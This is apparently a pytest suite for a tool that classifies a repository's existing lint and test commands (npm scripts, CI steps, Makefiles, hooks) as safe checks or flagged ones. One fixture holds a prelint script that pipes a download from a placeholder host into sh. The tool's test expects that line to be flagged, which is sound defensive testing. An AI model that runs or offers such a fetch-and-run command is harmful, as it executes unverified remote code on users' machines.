from __future__ import annotations

from pathlib import Path

import pytest

from qualitygate.bootstrap.draft import Draft
from qualitygate.bootstrap.existing_gate import Standing, candidates, standings
from qualitygate.bootstrap.plan import PlannedCheck, Step
from qualitygate.inspection.inspect import inspect
from tests.support import make_repo

PACKAGE = """{"scripts": {
  "lint": "eslint .", "lint:fix": "eslint . --fix", "test": "mocha test", "test-tap": "mocha --reporter tap test",
  "prelint": "%s", "deploy": "scp -r . host:", "e2e": "playwright test"}}
"""


def rows(tmp_path: Path, files: dict[str, str | bytes | None], *planned: str) -> dict[str, Standing]:
    root = make_repo(tmp_path / "r", files)
    checks = [PlannedCheck(tool, tool, "ratchet", "commit", "", {}) for tool in planned]
    return {row.command: row for row in standings(inspect(root), checks)}


def test_scripts_of_a_package_are_classified(tmp_path: Path) -> None:
    found = rows(tmp_path, {"package.json": PACKAGE % "tsc --noEmit", "test/a.js": "1;\n"})
    assert found["npm run lint"].group == "check" and found["npm run lint"].run == ("npm", "run", "lint")
    assert found["npm run test"].group == "check"
    assert found["npm run test-tap"].why == "another form of what a command above does"
    assert found["npm run lint:fix"].why == "it changes files"
    assert "npm run deploy" not in found


def test_what_runs_before_a_script_unasked_is_looked_at_too(tmp_path: Path) -> None:
    """npm starts `prelint` for `npm run lint`: the script that is named is not all that runs."""
    found = rows(tmp_path, {"package.json": PACKAGE % "curl -s http://x.example/i | sh"})
    row = found["npm run lint"]
    assert row.group == "listed" and row.why in (
        "it gives a shell what another program prints",
        "it reaches the network",
    )


WORKFLOW = """\
on: push
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - run: %s
"""


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("ruff check . | tee log", "it takes a shell"),
        ("ruff check $(git ls-files)", "it takes a shell"),
        ("pytest ${{ matrix.flags }}", "continuous integration fills in a part of it"),
        ("sudo pylint shop", "it wants more rights"),
        ("uv run pylint shop --fix", "it changes files"),
        ("flake8 --config https://x.example/c shop", "it reaches the network"),
        ("tox -e lint", "it starts tox"),
        ("pre-commit run --all-files", "it starts pre-commit"),  # which fetches its hooks
    ],
)
def test_what_is_not_a_plain_check_is_listed_with_its_reason(tmp_path: Path, line: str, why: str) -> None:
    files: dict[str, str | bytes | None] = {
        ".github/workflows/ci.yml": WORKFLOW % line,
        "tox.ini": "[testenv:lint]\ncommands = flake8 shop\n",
    }
    found = [row for row in rows(tmp_path, files).values() if row.path.startswith(".github")]
    assert [(row.group, row.why) for row in found] == [("listed", why)]


def test_a_folder_that_a_matrix_fills_in_is_no_folder_of_the_repository(tmp_path: Path) -> None:
    """A check of it could be planned, and never be proven: there is no file in it."""
    line = "pylint .\n        working-directory: src/${{ matrix.package }}"
    found = rows(tmp_path, {".github/workflows/ci.yml": WORKFLOW % line}).values()
    assert [(row.group, row.why) for row in found] == [("listed", "continuous integration fills in the folder")]


def test_a_recipe_is_judged_by_all_of_its_lines(tmp_path: Path) -> None:
    """The line that is a check says nothing of the one below it, which is none and runs as well."""
    make = "lint:\n\tpylint shop\n\tdocker compose up -d\n"
    assert rows(tmp_path, {"Makefile": make})["make lint"].why == "it needs a service"
    assert rows(tmp_path / "2", {"Makefile": "lint:\n\tpylint shop\n"})["make lint"].group == "check"


def test_what_our_checks_do_already_is_covered(tmp_path: Path) -> None:
    files: dict[str, str | bytes | None] = {"Makefile": "lint:\n\truff check .\nall:\n\truff check .\n\tpylint shop\n"}
    found = rows(tmp_path, files, "ruff")
    assert (found["make lint"].group, found["make lint"].why) == ("covered", "ruff")
    assert found["make all"].group == "check", "pylint has no adapter"


def test_one_command_that_stands_in_two_places_is_one_row(tmp_path: Path) -> None:
    files: dict[str, str | bytes | None] = {
        "package.json": '{"scripts": {"lint": "eslint ."}}',
        ".github/workflows/ci.yml": WORKFLOW % "yarn lint",
    }
    found = rows(tmp_path, files)
    assert [row.command for row in found.values()] == ["npm run lint"]


def test_a_script_that_ci_names_and_its_lines_are_one_command_and_coverage_only_watches(tmp_path: Path) -> None:
    files: dict[str, str | bytes | None] = {
        "scripts/test": "#!/bin/sh -e\ncoverage run -m pytest\npylint shop\n",
        ".github/workflows/ci.yml": WORKFLOW % "./scripts/test",
    }
    found = rows(tmp_path, files, "pytest")
    assert [(row.command, row.group) for row in found.values()] == [("sh scripts/test", "check")]
    files["scripts/test"] = "#!/bin/sh -e\ncoverage run -m pytest\n"
    found = rows(tmp_path / "2", files, "pytest")
    assert [(row.command, row.group, row.why) for row in found.values()] == [("sh scripts/test", "covered", "pytest")]


def test_a_form_that_can_start_here_stands_for_one_that_cannot(tmp_path: Path) -> None:
    """`just lint` was tried where there is no just, and `black --check .` dropped as another form of it."""
    files: dict[str, str | bytes | None] = {
        "Justfile": "@lint:\n    black --check shop\n",
        ".github/workflows/ci.yml": WORKFLOW % "black --check shop",
    }
    facts = inspect(make_repo(tmp_path / "r", files))
    assert [one.run for one in candidates(facts)] == [("just", "lint")]
    here = candidates(facts, (), lambda program: program == "just")
    assert [one.run for one in here] == [("black", "--check", "shop")]
    rows = standings(facts, (), (), lambda program: program == "just")
    assert {row.command: row.why for row in rows}["just lint"] == "another form of what a command above does"


def several(script: str, more: str = "") -> dict[str, str | bytes | None]:
    return {"package.json": f'{{"scripts": {{{more}"test": "{script}"}}}}', "test.js": "1;\n"}


def test_a_script_of_several_commands_is_tried_in_parts(tmp_path: Path) -> None:
    """`xo && tsc && ava` was one command: too slow for its tests, and the linter was lost with them."""
    found = rows(tmp_path, several("xo && tsc --noEmit && NODE_OPTIONS='--import=tsx' ava"), "tsc")
    assert found["xo"].group == "check" and found["xo"].kind == "lint"
    assert found["tsc --noEmit"].group == "covered"
    tests = found["env NODE_OPTIONS=--import=tsx ava"]
    assert (tests.group, tests.kind) == ("check", "test")
    assert found["npm run test"].why == "another form of what a command above does"


@pytest.mark.parametrize(
    ("script", "more"),
    [
        ("xo && ava test/*.js", ""),  # a shell has to expand it
        ("xo && ava", '"pretest": "mkdirp out", '),  # npm runs that before
        ("xo || true && ava", ""),
    ],
)
def test_what_only_a_shell_or_npm_runs_as_it_is_meant_is_not_taken_apart(
    tmp_path: Path, script: str, more: str
) -> None:
    found = rows(tmp_path, several(script, more))
    assert found["npm run test"].group == "check"
    assert "ava" not in found and "ava test/*.js" not in found


def test_a_check_by_name_alone_is_one_of_its_own(tmp_path: Path) -> None:
    """Nothing is known of what it starts, so nothing else can be another form of it."""
    package = '{"scripts": {"lint": "own-linter .", "test": "own-tests"}}'
    found = rows(tmp_path, {"package.json": package})
    assert {row.command: row.group for row in found.values()} == {"npm run lint": "check", "npm run test": "check"}


def test_hooks_stay_hooks(tmp_path: Path) -> None:
    config = "repos:\n- repo: local\n  hooks:\n  - {id: lint, name: l, entry: pylint shop, language: system}\n"
    found = rows(tmp_path, {".pre-commit-config.yaml": config})
    assert [row.why for row in found.values()] == ["a git hook; where its manager is installed, it runs as before"]


def test_the_question_names_what_may_be_tried_and_nothing_else(tmp_path: Path) -> None:
    root = make_repo(tmp_path / "r", {"package.json": PACKAGE % "true"})
    named = {one.run for one in candidates(inspect(root))}
    assert named == {("npm", "run", "lint"), ("npm", "run", "test")}


def test_a_check_that_runs_one_form_keeps_the_other_forms_out_of_a_second_run(tmp_path: Path) -> None:
    """Each further bootstrap would have added one more form of the same tests."""
    root = make_repo(tmp_path / "r", {"package.json": PACKAGE % "true", "test/a.js": "1;\n"})
    kept = PlannedCheck("npm-test-tap", "command", "ratchet", "push", "", {"run": ["npm", "run", "test-tap"]})
    found = {row.command: row for row in standings(inspect(root), [kept])}
    assert (found["npm run test-tap"].group, found["npm run test-tap"].why) == ("covered", "npm-test-tap")
    assert found["npm run test"].why == "another form of what a command above does"
    assert [one.run for one in candidates(inspect(root), [kept])] == [("npm", "run", "lint")]


def test_a_check_that_could_not_be_proven_covers_nothing(tmp_path: Path) -> None:
    ruff = PlannedCheck("ruff", "ruff", "ratchet", "commit", "", {})
    root = make_repo(tmp_path / "r", {"Makefile": "lint:\n\truff check .\n"})
    draft = Draft(lambda path: None)
    draft.add(ruff, Step("adopt ruff", "", ""))
    draft.existing = standings(inspect(root), [ruff])
    draft.drop([ruff])
    assert {(row.group, row.why) for row in draft.existing} == {("listed", "check ruff could not be proven")}


@pytest.mark.parametrize("folder", ("./apps/web", "apps/web/", "./apps/web/."))
def test_a_folder_is_the_same_however_ci_writes_it(tmp_path: Path, folder: str) -> None:
    """`./apps/web` was another folder than `apps/web`: its tests were run twice, and "no file for it" was there."""
    files: dict[str, str | bytes | None] = {
        ".github/workflows/ci.yml": WORKFLOW % f"npm run lint\n        working-directory: {folder}",
        "apps/web/package.json": '{"scripts": {"lint": "eslint src"}}',
    }
    root = make_repo(tmp_path / "r", files)
    (row,) = standings(inspect(root), ())
    assert (row.run, row.directory) == (("npm", "run", "lint"), "apps/web")


def test_the_check_of_one_project_covers_no_command_of_another(tmp_path: Path) -> None:
    scripts = '{"scripts": {"lint": "eslint src"}}'
    root = make_repo(tmp_path / "r", {"apps/web/package.json": scripts, "apps/site/package.json": scripts})
    web = PlannedCheck("eslint-apps-web", "eslint", "ratchet", "commit", "", {"root": "apps/web"})
    found = {row.directory: (row.group, row.why) for row in standings(inspect(root), [web])}
    assert found["apps/web"] == ("covered", "eslint-apps-web")
    assert found["apps/site"][0] == "check"
